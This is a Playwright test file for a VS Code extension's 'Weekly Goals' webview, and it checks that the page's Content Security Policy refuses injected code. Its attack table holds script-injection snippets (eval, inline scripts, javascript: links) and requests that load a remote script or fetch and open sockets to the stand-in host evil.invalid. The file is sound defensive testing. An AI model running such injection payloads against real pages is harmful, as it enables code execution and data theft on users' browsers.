/** The weekly goals page tries to do what an attacker would have it do. */
import assert from 'node:assert/strict';
import type { Frame, Request } from 'playwright-core';
import { eventually } from './kit.js';
import { photographFailures, Student } from './student.js';

/** VS Code's name for files of an extension; its service worker answers, and nobody else is asked. */
const RESOURCES = '.vscode-resource.vscode-cdn.net';
const HERE = ['127.0.0.1', 'localhost'];

describe('the page, attacked from within', () => {
  let student: Student;
  const requests: Request[] = [];
  before(async () => {
    student = await Student.arrive({ history: [['log', '30']] });
    student.workbench.context.on('request', (request) => requests.push(request));
    await student.run('Open Weekly Goals');
    await student.seesOnPage('hours-text', /^30 min of/);
  });
  after(() => student.leave());
  photographFailures(() => student);

  it('has asked nobody but this machine for anything', async () => {
    await student.fill('log-duration', '25');
    await student.field('log-save').click();
    await student.seesOnPage('hours-text', /^55 min of/);
    const own = requests.filter((request) => isOfWebview(request));
    assert.ok(own.length > 0, 'the page’s own requests are seen');
    const urls = own.map((request) => request.url());
    assert.deepEqual(
      urls.filter((url) => !HERE.includes(hostOf(url)) && !isResource(url)),
      [],
    );
  });

  /** What is tried, as code of the page, and which rule of its policy refuses it. */
  const attacks: Record<string, { readonly code: string; readonly refusedBy: string }> = {
    eval: { code: `try { eval('ran()'); } catch {}`, refusedBy: 'script-src' },
    'new Function': { code: `try { new Function('ran()')(); } catch {}`, refusedBy: 'script-src' },
    'a timer with text': { code: `setTimeout('ran()', 0);`, refusedBy: 'script-src' },
    'an inline script': {
      code: `const s = document.createElement('script');
             s.textContent = 'ran()'; document.body.append(s);`,
      refusedBy: 'script-src-elem',
    },
    'an inline event handler': {
      code: `const b = document.createElement('button');
             b.setAttribute('onclick', 'ran()'); document.body.append(b); b.click();`,
      refusedBy: 'script-src-attr',
    },
    'a javascript: address': {
      code: `const a = document.createElement('a');
             a.href = 'javascript:ran()'; document.body.append(a); a.click();`,
      refusedBy: 'script-src-elem',
    },
    'a remote script': {
      code: `const s = document.createElement('script');
             s.src = 'https://evil.invalid/x.js'; document.body.append(s);`,
      refusedBy: 'script-src-elem',
    },
    'a remote image': {
      code: `new Image().src = 'https://evil.invalid/x.png';`,
      refusedBy: 'img-src',
    },
    'a remote style sheet': {
      code: `const l = document.createElement('link'); l.rel = 'stylesheet';
             l.href = 'https://evil.invalid/x.css'; document.head.append(l);`,
      refusedBy: 'style-src-elem',
    },
    'a remote fetch': {
      code: `fetch('https://evil.invalid/x').then(() => ran(), () => {});`,
      refusedBy: 'connect-src',
    },
    'a WebSocket': {
      code: `try { new WebSocket('wss://evil.invalid/x'); } catch {}`,
      refusedBy: 'connect-src',
    },
    'a frame of another site': {
      code: `const f = document.createElement('iframe');
             f.src = 'https://evil.invalid/'; document.body.append(f);`,
      refusedBy: 'frame-src',
    },
    // To its own address, since the editor around it lets no frame go to another one anyway.
    'a form post': {
      code: `const f = document.createElement('form'); f.method = 'post';
             f.action = location.href; document.body.append(f); f.submit();`,
      refusedBy: 'form-action',
    },
    'a base for all addresses': {
      code: `const b = document.createElement('base');
             b.href = 'https://evil.invalid/'; document.head.append(b);`,
      refusedBy: 'base-uri',
    },
  };

  for (const [what, { code, refusedBy }] of Object.entries(attacks)) {
    it(`is refused ${what}`, async () => {
      const { refused, ran } = await attempt(code);
      assert.ok(refused.includes(refusedBy), `refused by: ${refused.join(', ') || 'nothing'}`);
      assert.equal(ran, false);
      // The browser tells of requests that the policy stopped as well, by this reason.
      await eventually(() => {
        const sent = requests.filter((each) => each.failure()?.errorText !== 'csp');
        const urls = sent.map((request) => request.url());
        assert.deepEqual(
          urls.filter((url) => hostOf(url) === 'evil.invalid'),
          [],
        );
      });
    });
  }

  it('and goes on working', async () => {
    await student.fill('log-duration', '5');
    await student.field('log-save').click();
    await student.seesOnPage('hours-text', /^1 h of/);
  });

  /** Runs code as the page's own, and waits for what the browser says of it. */
  async function attempt(code: string): Promise<{ refused: string[]; ran: boolean }> {
    const frame = await pageFrame();
    // A debugger's script may use eval whatever the policy says, but not what it does afterwards.
    const result = `(async () => {
      const refused = [];
      let hasRun = false;
      globalThis.ran = () => { hasRun = true; };
      const note = (violation) => refused.push(violation.effectiveDirective);
      document.addEventListener('securitypolicyviolation', note);
      await new Promise((resolve) => setTimeout(resolve, 0));
      ${code}
      for (let waited = 0; waited < 2000 && refused.length === 0 && !hasRun; waited += 20)
        await new Promise((resolve) => setTimeout(resolve, 20));
      document.removeEventListener('securitypolicyviolation', note);
      return { refused, ran: hasRun };
    })()`;
    return frame.evaluate<{ refused: string[]; ran: boolean }>(result);
  }

  async function pageFrame(): Promise<Frame> {
    return eventually(async () => {
      for (const frame of student.page.frames()) {
        if ((await frame.locator('main#app').count()) > 0) return frame;
      }
      throw new Error('the page has no frame');
    });
  }
});

function hostOf(url: string): string {
  return new URL(url).hostname;
}

function isResource(url: string): boolean {
  return hostOf(url).endsWith(RESOURCES) || /^(data|blob):/.test(url);
}

/** Whether it comes from a webview, or from the service worker that answers for one. */
function isOfWebview(request: Request): boolean {
  const worker = request.serviceWorker();
  if (worker) return worker.url().includes('/webview/');
  for (let frame: Frame | null = request.frame(); frame; frame = frame.parentFrame()) {
    if (frame.url().includes('/webview/')) return true;
  }
  return false;
}
